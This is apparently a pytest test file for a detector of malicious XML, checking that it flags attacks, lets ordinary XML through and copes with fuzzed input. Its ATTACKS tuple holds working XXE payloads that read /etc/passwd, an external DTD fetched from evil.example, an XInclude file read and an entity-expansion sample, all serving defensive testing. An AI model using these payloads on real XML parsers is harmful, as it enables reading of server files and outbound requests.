"""What a detector of XML finds, and what it lets people write."""

import pytest
from everyday import EVERYDAY
from hostile import HOSTILE, attacks, harmless
from hypothesis import given, settings
from hypothesis import strategies as st

from troth.engines.seclang.detect import xml

ATTACKS = (
    b'<!DOCTYPE foo [<!ENTITY x SYSTEM "file:///etc/passwd">]><foo>&x;</foo>',
    b'<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd">',
    b'<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
)
HARMLESS = (
    b"<!DOCTYPE html>",
    b'<?xml version="1.0"?><a><b/></a>',
    b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    b"An <!ENTITY> is a thing of XML",
    b'<!DOCTYPE x [<!ENTITY nbsp "&#160;">]><x/>',
)


@pytest.mark.parametrize("value", ATTACKS)
def test_attacks_are_found(value: bytes):
    assert xml.find(value)


@pytest.mark.parametrize("value", [*HARMLESS, *EVERYDAY])
def test_what_people_write_passes(value: bytes):
    assert xml.find(value) is None


@given(
    st.binary(max_size=200)
    | st.sampled_from(ATTACKS).flatmap(
        lambda a: st.binary(max_size=8).map(lambda b: a[:40] + b + a[40:])
    )
)
@settings(max_examples=150, deadline=None)
def test_it_never_raises(value: bytes):
    assert xml.find(value) is None or isinstance(xml.find(value), str)


@pytest.mark.parametrize("unit", HOSTILE)
def test_hostile_values_come_to_an_end(unit: bytes):
    value = unit * (16384 // len(unit))

    assert xml.recognise(value) == xml.recognise(value)


@pytest.mark.shared
@pytest.mark.parametrize("topic", ["xxe"])
def test_public_attacks_are_found_and_their_lookalikes_pass(topic: str):
    lines = attacks(topic)

    missed = [line for line in lines if not xml.find(line)]

    assert len(missed) <= len(lines) * 0.005
    assert [line for line in harmless(topic) if xml.find(line)] == []
